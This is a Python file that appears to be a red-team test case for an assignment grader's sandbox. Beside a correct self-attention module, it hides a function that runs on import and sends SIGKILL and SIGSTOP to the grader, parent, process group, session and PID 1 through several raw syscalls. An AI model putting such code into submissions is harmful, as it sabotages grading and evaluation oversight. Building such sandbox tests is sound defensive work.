# attack:     R13
# assignment: self-attention
# twin:       correct

# Kills its parent, its group, its session's first process and the grader, by every call there is for it. With the
# same user and no walls all of them end, and the class has no results.

import ctypes
import math
import os
import signal

import torch
from torch import nn

# Only where the runner has filled the placeholders in, and with them put walls around all of this.
MARKED = not "@MARK@".startswith("@")


libc = ctypes.CDLL(None, use_errno=True)


def kill():
    me, grader = os.getpid(), int("@HOST_PID@")
    for pid in (grader, -grader, os.getppid(), -os.getppid(), -os.getpgid(0), os.getsid(0), 1):
        if pid in (0, me, -me):
            continue
        for name, call in {
            "kill": lambda: libc.kill(pid, signal.SIGKILL),
            "sigqueue": lambda: libc.sigqueue(pid, signal.SIGKILL, None),
            "tkill": lambda: libc.syscall(200, pid, signal.SIGKILL),
            "tgkill": lambda: libc.syscall(234, pid, pid, signal.SIGKILL),
            "pidfd_send_signal": lambda: libc.syscall(424, libc.syscall(434, pid, 0), signal.SIGKILL, None, 0),
            "stop": lambda: libc.kill(pid, signal.SIGSTOP),
        }.items():
            print(name, pid, "succeeded" if call() == 0 else os.strerror(ctypes.get_errno()))


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v


if MARKED:
    kill()
